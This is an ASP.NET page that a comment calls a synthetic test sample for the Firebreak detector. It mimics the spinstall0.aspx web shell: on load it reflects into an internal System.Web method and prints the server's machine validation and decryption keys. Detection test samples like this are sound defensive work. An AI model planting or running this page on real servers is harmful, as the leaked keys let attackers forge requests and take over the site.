<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<%-- Synthetic test sample written for Firebreak: it exhibits the published
     behaviour of spinstall0.aspx (reads the machine keys through the internal
     MachineKeySection.GetApplicationConfig and prints them). Not real malware. --%>
<script runat="server" language="c#">
    public void Page_Load(object sender, EventArgs e)
    {
        Assembly web = Assembly.Load("System.Web, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a");
        Type section = web.GetType("System.Web.Configuration.MachineKeySection");
        MethodInfo get = section.GetMethod("GetApplicationConfig", BindingFlags.Static | BindingFlags.NonPublic);
        var cfg = (System.Web.Configuration.MachineKeySection)get.Invoke(null, new object[0]);
        Response.Write(cfg.ValidationKey + "|" + cfg.Validation + "|" + cfg.DecryptionKey + "|" + cfg.Decryption + "|" + cfg.CompatibilityMode);
    }
</script>
